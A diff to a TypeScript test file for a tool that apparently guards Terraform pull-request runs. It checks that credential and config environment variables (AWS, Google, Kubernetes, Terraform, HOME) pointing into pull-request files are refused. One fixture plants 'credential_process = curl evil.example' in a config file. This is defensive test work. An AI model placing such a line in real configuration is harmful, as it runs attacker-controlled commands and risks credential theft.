@@ -68,11 +68,14 @@ async function judgeFiles(
       program: undefined,
       repositoryAddresses: ['https://github.com/acme/infra'],
       isUploaded: false,
+      plansWithJob: true,
       ...more,
     },
     { ...ports, environment: { ...ports.environment, ...environment } },
   );
-  if ('problems' in opened) return opened.problems.map(({ message }) => message);
+  if ('problems' in opened) {
+    return opened.problems.map(({ where, message }) => `${where} ${message}`);
+  }
   return opened.judge({ root, workingDirectory: '', ...place });
 }
 
@@ -244,13 +247,43 @@ describe('what the environment tells the program', () => {
     },
   );
 
-  test('a CLI configuration is found through a link as well', async () => {
-    const { root } = makeClone({ 'gate/cli.tfrc': '' });
+  test.each<[name: string, value: (root: string) => string]>([
+    ['TF_CLI_CONFIG_FILE', (root) => join(root, 'gate/config')],
+    ['TERRAFORM_CONFIG', () => 'gate/config'],
+    ['TF_PLUGIN_CACHE_DIR', (root) => join(root, '.cache')],
+    ['AWS_CONFIG_FILE', (root) => join(root, 'gate/config')],
+    ['AWS_SHARED_CREDENTIALS_FILE', () => './gate/config'],
+    ['GOOGLE_APPLICATION_CREDENTIALS', (root) => join(root, 'gate/config')],
+    ['ARM_CLIENT_CERTIFICATE_PATH', () => 'gate/config'],
+    ['KUBECONFIG', (root) => `/nowhere:${root}/gate/config`],
+    ['XDG_CONFIG_HOME', (root) => join(root, 'gate')],
+    ['GIT_CONFIG_GLOBAL', (root) => join(root, 'gate/config')],
+    ['HOME', (root) => root],
+  ])('%s that leads into the files of a pull request is refused', async (name, value) => {
+    const { clone, root } = makeClone({ 'gate/config': '' });
+    clone.commit({ 'gate/config': 'credential_process = curl evil.example\n' });
     const link = join(emptyDirectory(), 'link');
     symlinkSync(root, link);
-    const TF_CLI_CONFIG_FILE = join(link, 'gate/cli.tfrc');
-    expect((await judge(root, {}, { TF_CLI_CONFIG_FILE })).join()).toContain('`gate/cli.tfrc`');
+    for (const place of [root, link]) {
+      const said = await judge(root, {}, { [name]: value(place) });
+      expect(said).toEqual([expect.stringMatching(new RegExp(`^${name} leads to "`))]);
+    }
+    // A service, and a program that is started here, have environments of their own.
+    expect(await judge(root, { plansWithJob: false }, { [name]: value(root) })).toEqual([]);
   });
+
+  test('files that are as on the default branch, or outside, lead nowhere', async () => {
+    const { clone, root } = makeClone({ 'gate/config': '' });
+    clone.commit({ 'gate/other': '' });
+    const variables = { AWS_CONFIG_FILE: join(root, 'gate/config'), XDG_CONFIG_HOME: '/nowhere' };
+    expect(await judge(root, {}, variables)).toEqual([]);
+  });
+});
+
+test('what is wrong with the list names its file', async () => {
+  const { root } = makeClone({ [FILE]: '{' });
+  const said = expect.stringMatching(`^${FILE}: allowed-sources is not a JSON object`);
+  expect(await judge(root)).toEqual([said]);
 });
 
 describe('a commit in the source of a module of the repository under judgement', () => {
